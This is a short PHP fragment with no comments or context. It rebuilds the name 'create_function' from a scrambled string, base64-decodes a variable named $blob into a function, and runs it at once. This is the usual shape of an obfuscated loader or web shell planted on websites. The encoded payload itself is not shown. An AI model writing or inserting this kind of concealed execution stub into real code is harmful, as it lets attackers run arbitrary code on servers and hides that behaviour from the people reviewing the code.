<?php
$k = str_replace('Q', '', 'cQreQatQe_fQunQction');
$f = $k('', base64_decode($blob));
$f();
